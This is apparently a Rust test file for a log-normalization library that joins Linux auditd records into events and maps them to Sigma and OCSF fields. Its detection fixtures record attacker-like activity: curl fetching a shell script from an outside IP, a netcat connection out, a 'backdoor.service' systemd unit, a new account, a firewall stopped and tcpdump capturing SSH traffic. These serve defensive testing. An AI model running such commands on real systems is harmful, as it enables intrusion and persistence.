//! auditd: records parsed, joined into one event per audit stamp, mapped to
//! Sigma's `linux/auditd` field names and to OCSF. Sample records are our own,
//! written after the formats in the Linux Audit documentation and auditd's
//! `audit.log` output.

mod common;

use std::collections::BTreeSet;

use kexin_logs::audit::{AuditJoiner, JoinConfig, record_views};
use kexin_logs::{Event, Normalizer, OcsfClass, SourceFormat, Status, normalize_reader};
use time::macros::datetime;

const ENRICHED_EXECVE: &str = "type=SYSCALL msg=audit(1709971200.123:8412): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c1a2b3c0 a1=55d0c1a2b400 a2=55d0c1a2b420 a3=7ffd5f0e1a30 items=2 ppid=20114 pid=20201 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=12 comm=\"curl\" exe=\"/usr/bin/curl\" subj=unconfined key=\"susp_activity\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"alice\" GID=\"alice\" EUID=\"alice\" SUID=\"alice\" FSUID=\"alice\" EGID=\"alice\" SGID=\"alice\" FSGID=\"alice\"
type=EXECVE msg=audit(1709971200.123:8412): argc=5 a0=\"curl\" a1=\"-s\" a2=\"-o\" a3=2F746D702F6D792066696C65 a4=\"http://198.51.100.23/x.sh\"
type=CWD msg=audit(1709971200.123:8412): cwd=\"/home/alice\"
type=PATH msg=audit(1709971200.123:8412): item=0 name=\"/usr/bin/curl\" inode=1835204 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u{1d}OUID=\"root\" OGID=\"root\"
type=PATH msg=audit(1709971200.123:8412): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1837381 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\u{1d}OUID=\"root\" OGID=\"root\"
type=PROCTITLE msg=audit(1709971200.123:8412): proctitle=6375726C002D73002D6F002F746D702F6D792066696C6500687474703A2F2F3139382E35312E3130302E32332F782E7368
type=EOE msg=audit(1709971200.123:8412): 
";

const RAW_CONNECT: &str = "type=SYSCALL msg=audit(1709971600.222:8450): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffc2a1b3c40 a2=10 a3=0 items=0 ppid=20201 pid=20333 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=12 comm=\"nc\" exe=\"/usr/bin/nc.openbsd\" subj=unconfined key=\"network_connect_4\"
type=SOCKADDR msg=audit(1709971600.222:8450): saddr=02000FA1C63364170000000000000000
type=PROCTITLE msg=audit(1709971600.222:8450): proctitle=6E63002D770033003139382E35312E3130302E32330034303031
type=EOE msg=audit(1709971600.222:8450): 
";

const SYSLOG_SERVICE_FILE: &str = "Mar  9 10:20:00 web01 audispd: node=web01 type=SYSCALL msg=audit(1709979600.500:9001): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffe3b1c2f10 a2=241 a3=1b6 items=2 ppid=4400 pid=4410 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm=\"tee\" exe=\"/usr/bin/tee\" key=\"systemd\"
Mar  9 10:20:00 web01 audispd: node=web01 type=CWD msg=audit(1709979600.500:9001): cwd=\"/root\"
Mar  9 10:20:00 web01 audispd: node=web01 type=PATH msg=audit(1709979600.500:9001): item=0 name=\"/etc/systemd/system/\" inode=393218 dev=fd:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
Mar  9 10:20:00 web01 audispd: node=web01 type=PATH msg=audit(1709979600.500:9001): item=1 name=\"/etc/systemd/system/backdoor.service\" inode=394011 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
Mar  9 10:20:00 web01 audispd: node=web01 type=PROCTITLE msg=audit(1709979600.500:9001): proctitle=746565002F6574632F73797374656D642F73797374656D2F6261636B646F6F722E73657276696365
Mar  9 10:20:00 web01 audispd: node=web01 type=EOE msg=audit(1709979600.500:9001): 
";

const USER_RECORDS: &str = "type=USER_AUTH msg=audit(1709971300.456:8420): pid=20250 uid=1001 auid=1001 ses=12 subj=unconfined msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/bin/su\" hostname=bastion addr=? terminal=pts/0 res=failed'\u{1d}UID=\"alice\" AUID=\"alice\"
type=USER_LOGIN msg=audit(1709971310.000:8421): pid=20260 uid=0 auid=1001 ses=13 subj=unconfined msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=203.0.113.9 addr=203.0.113.9 terminal=/dev/pts/1 res=success'\u{1d}UID=\"root\" AUID=\"alice\" ID=\"alice\"
type=ADD_USER msg=audit(1709971400.789:8431): pid=20300 uid=0 auid=1001 ses=12 subj=unconfined msg='op=adding user acct=\"svc-backup\" exe=\"/usr/sbin/useradd\" hostname=bastion addr=? terminal=pts/0 res=success'\u{1d}UID=\"root\" AUID=\"alice\"
type=SERVICE_STOP msg=audit(1709971500.001:8440): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=ufw comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\u{1d}UID=\"root\" AUID=\"unset\"
";

const LONG_ARGUMENT: &str = "type=SYSCALL msg=audit(1709971700.000:8460): arch=c00000b7 syscall=221 success=yes exit=0 a0=aaaad1e0 a1=aaaad200 a2=aaaad220 a3=0 items=1 ppid=1 pid=7001 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)
type=EXECVE msg=audit(1709971700.000:8460): argc=3 a0=\"sh\" a1=\"-c\" a2_len=19 a2[0]=6563686F20
type=EXECVE msg=audit(1709971700.000:8460): a2[1]=276F6B27203E202F746D702FC3A9
type=EOE msg=audit(1709971700.000:8460): 
";

const SNIFF: &str = "type=SYSCALL msg=audit(1709971800.000:8470): arch=c000003e syscall=59 success=yes exit=0 a0=5601a0 a1=5601b0 a2=5601c0 a3=0 items=2 ppid=20114 pid=20400 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=12 comm=\"tcpdump\" exe=\"/usr/bin/tcpdump\" key=\"exec\"
type=EXECVE msg=audit(1709971800.000:8470): argc=8 a0=\"tcpdump\" a1=\"-c\" a2=\"100\" a3=\"-i\" a4=\"eth0\" a5=\"-w\" a6=\"/tmp/.c.pcap\" a7=\"port 22\"
type=EOE msg=audit(1709971800.000:8470): 
";

fn n() -> Normalizer {
    Normalizer::new(datetime!(2024-03-10 12:00:00 UTC))
}

/// Joins every line of `text` the way `normalize_reader` does.
fn joined(text: &str) -> Vec<Event> {
    let mut events = Vec::new();
    let stats = normalize_reader(&n(), text.as_bytes(), |e| events.push(e)).unwrap();
    assert_eq!(stats.errors, 0, "{:?}", stats.first_errors);
    assert_eq!(stats.events as usize, events.len());
    events
}

#[test]
fn execve_records_join_into_one_process_launch() {
    let evs = joined(ENRICHED_EXECVE);
    assert_eq!(evs.len(), 1);
    let e = &evs[0];
    assert_eq!(e.format, SourceFormat::Auditd);
    assert_eq!(
        (e.logsource.product, e.logsource.service),
        (Some("linux"), Some("auditd"))
    );
    assert_eq!(e.time, Some(datetime!(2024-03-09 08:00:00.123 UTC)));
    assert_eq!((e.app.as_deref(), e.pid), (Some("curl"), Some(20201)));
    assert_eq!(
        e.field("record_types"),
        Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE")
    );
    // Unqualified names: what rules without a record-type test read.
    assert_eq!(e.field("type"), Some("SYSCALL"));
    assert_eq!(e.field("SYSCALL"), Some("execve"));
    assert_eq!(e.field("exe"), Some("/usr/bin/curl"));
    assert_eq!(e.field("key"), Some("susp_activity"));
    assert_eq!(
        e.field("a0"),
        Some("curl"),
        "EXECVE's argv wins over SYSCALL's registers"
    );
    assert_eq!(e.field("a3"), Some("/tmp/my file"));
    assert_eq!(e.field("name"), Some("/usr/bin/curl"));
    assert_eq!(e.field("cwd"), Some("/home/alice"));
    assert_eq!(
        e.field("proctitle"),
        Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh")
    );
    assert_eq!(
        e.field("CommandLine"),
        Some("curl -s -o /tmp/my file http://198.51.100.23/x.sh")
    );
    // Qualified names keep every record.
    assert_eq!(e.field("SYSCALL.a0"), Some("55d0c1a2b3c0"));
    assert_eq!(e.field("EXECVE.a0"), Some("curl"));
    assert_eq!(e.field("PATH.1.name"), Some("/lib64/ld-linux-x86-64.so.2"));
    assert_eq!(e.field("PATH.OUID"), Some("root"));
    // Record views: a `type: EXECVE` selection sees EXECVE's fields only.
    let views = record_views(e);
    let execve = views.iter().find(|v| v.record_type == "EXECVE").unwrap();
    assert_eq!(
        (execve.field("type"), execve.field("a1")),
        (Some("EXECVE"), Some("-s"))
    );
    let syscall = views.iter().find(|v| v.record_type == "SYSCALL").unwrap();
    assert_eq!(syscall.field("a1"), Some("55d0c1a2b400"));
    assert_eq!(views.iter().filter(|v| v.record_type == "PATH").count(), 2);
    let o = e.ocsf.as_ref().unwrap();
    assert_eq!(
        (o.class, o.activity_id, o.status),
        (OcsfClass::ProcessActivity, 1, Some(Status::Success))
    );
    let p = o.process.as_ref().unwrap();
    assert_eq!(p.path.as_deref(), Some("/usr/bin/curl"));
    assert_eq!(p.cwd.as_deref(), Some("/home/alice"));
    assert_eq!(p.user.as_deref(), Some("alice"));
    assert_eq!(
        o.actor.as_ref().unwrap().user.name.as_deref(),
        Some("alice")
    );
    assert_eq!(e.raw.lines().count(), 6, "EOE is not kept");
}

#[test]
fn raw_connect_gets_syscall_name_and_socket_address() {
    let e = &joined(RAW_CONNECT)[0];
    assert_eq!(e.field("SYSCALL"), Some("connect"), "from the x86_64 table");
    let syscall = &record_views(e)[0];
    assert_eq!(syscall.field("SYSCALL"), Some("connect"));
    assert_eq!(
        (e.field("laddr"), e.field("lport")),
        (Some("198.51.100.23"), Some("4001"))
    );
    assert_eq!(e.field("proctitle"), Some("nc -w 3 198.51.100.23 4001"));
    let o = e.ocsf.as_ref().unwrap();
    assert_eq!(
        (o.class, o.status),
        (OcsfClass::NetworkActivity, Some(Status::Failure))
    );
    let dst = o.dst_endpoint.as_ref().unwrap();
    assert_eq!(
        (dst.ip.as_deref(), dst.port),
        (Some("198.51.100.23"), Some(4001))
    );
}

#[test]
fn syslog_carried_records_join_and_pick_the_created_path() {
    let evs = joined(SYSLOG_SERVICE_FILE);
    assert_eq!(evs.len(), 1);
    let e = &evs[0];
    assert_eq!(e.host.as_deref(), Some("web01"));
    assert_eq!(e.field("SYSCALL"), Some("openat"));
    assert_eq!(
        (e.field("name"), e.field("nametype")),
        (Some("/etc/systemd/system/backdoor.service"), Some("CREATE"))
    );
    let created = record_views(e)
        .into_iter()
        .find(|v| v.record_type == "PATH" && v.field("nametype") == Some("CREATE"))
        .unwrap();
    assert_eq!(
        created.field("name"),
        Some("/etc/systemd/system/backdoor.service")
    );
    assert!(
        e.raw
            .starts_with("Mar  9 10:20:00 web01 audispd: node=web01 type=SYSCALL")
    );
    assert!(e.ocsf.is_none(), "a file write has no class here");
}

#[test]
fn userspace_records_are_events_on_their_own() {
    let evs = joined(USER_RECORDS);
    assert_eq!(evs.len(), 4);
    let auth = &evs[0];
    assert_eq!(
        (auth.field("type"), auth.field("acct"), auth.field("res")),
        (Some("USER_AUTH"), Some("root"), Some("failed"))
    );
    let o = auth.ocsf.as_ref().unwrap();
    assert_eq!(
        (o.class, o.activity_id, o.status),
        (OcsfClass::Authentication, 1, Some(Status::Failure))
    );
    assert_eq!(o.user.as_ref().unwrap().name.as_deref(), Some("root"));
    assert_eq!(o.status_detail.as_deref(), Some("PAM:authentication"));
    let login = evs[1].ocsf.as_ref().unwrap();
    assert_eq!(
        login.user.as_ref().unwrap().uid.as_deref(),
        Some("1001"),
        "id= is a number, not hex"
    );
    assert_eq!(
        login.user.as_ref().unwrap().name.as_deref(),
        Some("alice"),
        "enriched ID"
    );
    assert_eq!(
        login.src_endpoint.as_ref().unwrap().ip.as_deref(),
        Some("203.0.113.9")
    );
    let add = evs[2].ocsf.as_ref().unwrap();
    assert_eq!((add.class, add.activity_id), (OcsfClass::AccountChange, 1));
    assert_eq!(
        add.user.as_ref().unwrap().name.as_deref(),
        Some("svc-backup")
    );
    assert_eq!(evs[2].field("op"), Some("adding user"));
    assert_eq!(
        (evs[3].field("type"), evs[3].field("unit")),
        (Some("SERVICE_STOP"), Some("ufw"))
    );
}

#[test]
fn long_argument_chunks_and_continuation_records_are_joined() {
    let e = &joined(LONG_ARGUMENT)[0];
    assert_eq!(e.field("SYSCALL"), Some("execve"), "aarch64 table");
    assert_eq!(e.field("a2"), Some("echo 'ok' > /tmp/é"));
    assert_eq!(e.field("a2_len"), None);
    assert_eq!(e.field("CommandLine"), Some("sh -c echo 'ok' > /tmp/é"));
    assert_eq!(e.field("record_types"), Some("SYSCALL EXECVE"));
}

#[test]
fn interleaved_events_and_missing_eoe() {
    let lines: Vec<&str> = ENRICHED_EXECVE.lines().collect();
    // Records of concurrent events interleave within the same instant.
    let close = RAW_CONNECT.replace("1709971600.222", "1709971200.124");
    let other: Vec<&str> = close.lines().collect();
    let mut mixed = String::new();
    for i in 0..lines.len().max(other.len()) {
        for l in [lines.get(i), other.get(i)].into_iter().flatten() {
            mixed.push_str(l);
            mixed.push('\n');
        }
    }
    let evs = joined(&mixed);
    assert_eq!(evs.len(), 2);
    assert!(
        evs.iter()
            .any(|e| e.field("record_types") == Some("SYSCALL EXECVE CWD PATH PATH PROCTITLE"))
    );
    assert!(
        evs.iter()
            .any(|e| e.field("record_types") == Some("SYSCALL SOCKADDR PROCTITLE"))
    );

    // Without EOE: a record stamped after the grace window closes the event.
    let n = n();
    let mut j = AuditJoiner::new(JoinConfig {
        grace_ms: 1000,
        ..JoinConfig::default()
    });
    let mut out = Vec::new();
    n.line_joining(b"type=CONFIG_CHANGE msg=audit(1709971000.000:1): auid=1001 ses=12 op=remove_rule key=\"susp_activity\" list=4 res=1", &mut j, &mut out).unwrap();
    n.line_joining(
        b"type=SYSCALL msg=audit(1709971000.900:2): arch=c000003e syscall=59 success=yes",
        &mut j,
        &mut out,
    )
    .unwrap();
    assert!(out.is_empty());
    assert_eq!(j.pending(), 2);
    n.line_joining(
        b"type=SYSCALL msg=audit(1709971001.500:3): arch=c000003e syscall=59 success=yes",
        &mut j,
        &mut out,
    )
    .unwrap();
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].field("type"), Some("CONFIG_CHANGE"));
    j.finish(&mut out);
    assert_eq!(out.len(), 3);
    assert_eq!(j.pending(), 0);
}

#[test]
fn buffer_is_bounded() {
    let n = n();
    let mut j = AuditJoiner::new(JoinConfig {
        grace_ms: u32::MAX,
        max_pending: 4,
        max_records: 3,
    });
    let mut out = Vec::new();
    for serial in 0..10 {
        let line = format!("type=SYSCALL msg=audit(1709971000.000:{serial}): syscall=2");
        n.line_joining(line.as_bytes(), &mut j, &mut out).unwrap();
        assert!(j.pending() <= 4);
    }
    assert_eq!(out.len(), 6);
    for _ in 0..5 {
        n.line_joining(
            b"type=PATH msg=audit(1709971000.000:9): item=0 name=\"/x\"",
            &mut j,
            &mut out,
        )
        .unwrap();
    }
    j.finish(&mut out);
    let last = out.iter().find(|e| e.field("serial") == Some("9")).unwrap();
    assert_eq!(last.field("records_dropped"), Some("3"));
}

#[test]
fn stateless_line_gives_one_event_per_record_and_kernel_lines_work() {
    let mut out = Vec::new();
    let k = b"Mar  9 10:30:00 web01 kernel: [ 3512.123456] audit: type=1400 audit(1709980200.111:9100): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/tcpdump\" name=\"/etc/shadow\" pid=5001 comm=\"tcpdump\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0";
    assert_eq!(n().line(k, &mut out).unwrap(), 1);
    let e = &out[0];
    assert_eq!(
        (e.field("type"), e.field("apparmor"), e.field("name")),
        (Some("AVC"), Some("DENIED"), Some("/etc/shadow"))
    );
    assert_eq!(e.host.as_deref(), Some("web01"));
    assert_eq!(
        n().line(b"type=EOE msg=audit(1709980200.111:9100): ", &mut out)
            .unwrap(),
        0
    );
    // A malformed record carried in syslog reports the offset in the whole line.
    let bad = b"Mar  9 10:30:00 web01 audispd: type=SYSCALL msg=audit(17:1): x=1";
    let err = n().line(bad, &mut out).unwrap_err();
    assert_eq!(err.offset, bad.iter().position(|&b| b == b'(').unwrap() + 1);
    // Not audit: ordinary kernel lines stay syslog.
    out.clear();
    n().line(
        b"Mar  9 10:30:00 web01 kernel: [ 1.0] usb 1-1: new device",
        &mut out,
    )
    .unwrap();
    assert_eq!(out[0].logsource.service, Some("syslog"));
}

/// Every field name SigmaHQ's `linux/auditd` rules use is a key of our
/// sample events.
#[test]
fn sigma_rule_fields_are_covered() {
    let Some(rules) = common::rule_fields("linux/auditd", "auditd") else {
        return;
    };
    let mut all = String::new();
    for s in [
        ENRICHED_EXECVE,
        RAW_CONNECT,
        SYSLOG_SERVICE_FILE,
        USER_RECORDS,
        SNIFF,
    ] {
        all.push_str(s);
    }
    let events = joined(&all);
    let have: BTreeSet<&str> = events
        .iter()
        .flat_map(|e| e.fields.keys().map(|k| k.as_ref()))
        .collect();
    assert_eq!(common::missing(&rules, &have), Vec::<&str>::new());
    let sniff = events
        .iter()
        .find(|e| e.field("comm") == Some("tcpdump"))
        .unwrap();
    let execve = record_views(sniff)
        .into_iter()
        .find(|v| v.record_type == "EXECVE")
        .unwrap();
    assert_eq!(
        (execve.field("a1"), execve.field("a3"), execve.field("a7")),
        (Some("-c"), Some("-i"), Some("port 22"))
    );
}

#[test]
fn snapshot_joined_audit_events() {
    let mut all = String::new();
    for s in [
        ENRICHED_EXECVE,
        RAW_CONNECT,
        SYSLOG_SERVICE_FILE,
        USER_RECORDS,
        LONG_ARGUMENT,
    ] {
        all.push_str(s);
    }
    let evs = joined(&all);
    let view: Vec<_> = evs
        .iter()
        .map(|e| serde_json::json!({ "logsource": e.logsource, "ocsf": e.ocsf, "fields": e.fields, "time": e.time.map(|t| t.to_string()) }))
        .collect();
    insta::assert_json_snapshot!("auditd_joined", view);
}
